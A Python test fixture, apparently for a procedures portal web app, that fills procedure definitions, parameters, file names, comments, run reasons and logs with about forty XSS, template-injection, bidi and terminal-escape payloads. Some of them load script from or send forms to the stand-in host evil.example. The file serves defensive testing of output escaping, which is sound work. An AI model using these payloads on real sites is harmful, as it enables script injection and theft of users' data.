"""Forty texts that want to be more than text, and a town where authors and requesters wrote them everywhere (H29)."""

from __future__ import annotations

import json

from procedures.domain.clock import now
from procedures.models import Person, Run
from procedures.runner.drive import drive
from procedures.services import run_comments, runs, versions
from tests.web.town import Town

OWNED = "window.owned=1"
PAYLOADS = (
    f"<script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</textarea><script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"<ScRiPt>{OWNED}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={OWNED}>",
    "<img src=//evil.example/pixel>",
    f"<svg onload={OWNED}>",
    f"<svg><script>{OWNED}</script></svg>",
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={OWNED}>",
    f"<iframe src=javascript:{OWNED}></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<object data=javascript:{OWNED}></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    f"<body onload={OWNED}>",
    f"<details open ontoggle={OWNED}>x</details>",
    f"<input autofocus onfocus={OWNED}>",
    "<form action=//evil.example><button>Run</button></form>",
    "<button form=ask formaction=//evil.example>Run</button>",
    f"<a href=javascript:{OWNED}>x</a>",
    f'" onmouseover={OWNED} x="',
    f"' onfocus={OWNED} autofocus x='",
    f"`onmouseover={OWNED}`",
    f"[x](javascript:{OWNED})",
    f"[x](JaVaScRiPt&colon;{OWNED})",
    f"[x](data:text/html,<script>{OWNED}</script>)",
    "![x](//evil.example/x.png)",
    f"<javascript:{OWNED}>",
    f"[x]: javascript:{OWNED}",
    f"javascript:{OWNED}",
    "{{ 7|add:7 }}{% debug %}",
    "${{ 7 }}".replace("$", "€"),
    f"\u202egnp.<script>{OWNED}</script>\u2066\u200b",
    "\x1b]0;owned\x07\x1b[2J\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
)
URLS = (
    f"javascript:{OWNED}",
    f"JAVASCRIPT:{OWNED}",
    f" javascript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    "//evil.example/",
    "https://good@evil.example/",
)
ALL = " ".join(PAYLOADS)
PLAIN = [payload for payload in PAYLOADS if payload.isprintable()]
AUTHORS = " ".join(PLAIN)  # lint lets no hidden character into a definition
FILE = "data:text/html;name=%3Cimg%20src%3Dx%20onerror%3Dwindow.owned%3D1%3E;base64,PHNjcmlwdD4="


def bundle(name: str, title: str) -> dict[str, bytes]:
    """A procedure in which every text that its author chooses wants more."""
    definition = {
        "apiVersion": "opsportal/v1",
        "kind": "Procedure",
        "metadata": {
            "name": name,
            "title": title[:200],
            "description": AUTHORS,
            "tags": [payload[:200] for payload in PLAIN],
            "links": [{"title": payload[:200], "url": url} for payload, url in zip(PLAIN, URLS, strict=False)],
        },
        "spec": {
            "owner": PLAIN[0],
            "type": "diagnostic",
            "risk": "low",
            "environments": ["development"],
            "timeout": "1m",
            "evidence": {"controls": [payload[:200] for payload in PLAIN]},
            "secrets": {
                "schema": {"properties": {"token": {"type": "string", "title": AUTHORS, "description": AUTHORS}}}
            },
            "parameters": {
                "title": AUTHORS,
                "description": AUTHORS,
                "properties": {
                    "text": {
                        "type": "string",
                        "title": AUTHORS,
                        "description": AUTHORS,
                        "ui:help": AUTHORS,
                        "ui:placeholder": AUTHORS,
                    },
                    "area": {"type": "string", "title": "Area", "ui:widget": "textarea", "default": AUTHORS},
                    "pick": {
                        "enum": ["a", *PLAIN],
                        "enumNames": [*PLAIN, "last"],
                        "title": "Pick",
                        "ui:field": PLAIN[0],
                    },
                    "radio": {"enum": PLAIN, "ui:widget": "radio", "title": "Radio", "ui:enumNames": PLAIN},
                    "some": {"type": "array", "items": {"enum": PLAIN}, "ui:widget": "checkboxes", "title": "Some"},
                    "net": {
                        "type": "object",
                        "title": AUTHORS,
                        "properties": {"x": {"type": "string", "title": AUTHORS}},
                    },
                    "file": {"type": "string", "format": "data-url", "title": "File"},
                    "offer": {
                        "type": "string",
                        "title": "Offer",
                        "options": {"from": "url", "url": "https://choices.example/x", "path": "items"},
                    },
                    "crew": {
                        "type": "string",
                        "title": "Crew",
                        "ui:field": "EntityPicker",
                        "ui:options": {"catalogFilter": {"kind": "Component"}, "allowArbitraryValues": False},
                    },
                    "kind": {"type": "string", "title": "Kind", "ui:options": {"inputType": PLAIN[0]}},
                },
            },
            "output": {
                "values": {"said": "${{ steps.one.output.said }}", "text": "${{ parameters.text }}"},
                "links": [
                    *({"title": payload[:200], "url": url} for payload, url in zip(PLAIN, URLS, strict=False)),
                    {"title": "made", "url": "${{ parameters.text }}"},
                    {"title": "fine", "url": "https://example.com/?q=${{ parameters.pick }}"},
                ],
            },
            "steps": [
                {
                    "id": "one",
                    "name": PLAIN[0],
                    "action": "local:script",
                    "timeout": "20s",
                    "input": {"script": "say.sh"},
                    "artifacts": [{"name": "evil.svg", "path": "evil.svg", "type": "image/svg+xml"}],
                },
                *(
                    {
                        "id": f"s{number}",
                        "name": payload[:200],
                        "action": "local:command",
                        "timeout": "5s",
                        "if": "${{ false }}",
                        "input": {"argv": ["echo", "--", "${{ parameters.text }}"]},
                    }
                    for number, payload in enumerate(PLAIN)
                ),
            ],
        },
    }
    say = 'printf "%s\\n" "$PARAM_AREA" "$PARAM_TEXT"; printf "said=%s\\n" "$PARAM_TEXT" >> "$OPSPORTAL_OUTPUT"\n'
    say += 'echo \'<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=1"/>\' > evil.svg\n'
    readme = "\n\n".join(PLAIN)
    text = json.dumps(definition, ensure_ascii=True)
    return {
        "procedure.yaml": text.encode(),
        "say.sh": say.encode(),
        "README.md": readme.encode(),
        "pictures/<img src=x onerror=window.owned=1>.svg": b"<svg onload=window.owned=1>",
    }


def written(town: Town) -> Run:
    """A run that has ended, of the procedure, with a hostile reason, parameters, comment and log."""
    for person in Person.objects.filter(username__in=["mira", "aisha"]):
        Person.objects.filter(pk=person.pk).update(name=f"{person.name} {PLAIN[0]}"[:200])
    town.people = {name: Person.objects.get(pk=person.pk) for name, person in town.people.items()}
    versions.submit_version(actor=town.people["mira"], files=bundle("evil", PLAIN[1]), note=ALL[:2000], at=now())
    town.accept("evil")
    versions.submit_version(
        actor=town.people["mira"],
        files={**bundle("evil", PLAIN[2]), "new.txt": "\n".join(PLAIN).encode()},
        note=ALL[:2000],
        at=now(),
    )
    given = {"text": ALL, "pick": PLAIN[3], "some": PLAIN[:5], "file": FILE}
    wish = runs.Wish("evil", "development", parameters=given, reason=ALL[:2000], door="web")
    run = runs.request_run(actor=town.people["mira"], wish=wish, at=now())
    drive(run.id)
    run_comments.comment_run(actor=town.people["mira"], run=run.pk, body=ALL[:4000], at=now())
    run.refresh_from_db()
    return run


def places(run: Run) -> dict[str, str]:
    """Path → who looks at it."""
    second = run.procedure.versions.get(state="in_review").id
    return {
        "/": "mira",
        "/procedures/": "mira",
        "/procedures/evil/": "mira",
        f"/procedures/evil/?from={run.id}": "mira",
        "/procedures/evil/?tab=history": "mira",
        "/procedures/evil/?tab=versions": "mira",
        "/runs/": "mira",
        f"/runs/{run.id}/": "mira",
        f"/runs/{run.id}/?tab=plan": "mira",
        f"/runs/{run.id}/?tab=outputs": "mira",
        "/reviews/": "aisha",
        f"/reviews/{second}/": "aisha",
        "/people/": "aisha",
        "/access/": "aisha",
        "/evidence/": "aisha",
        "/evidence/population/": "aisha",
    }
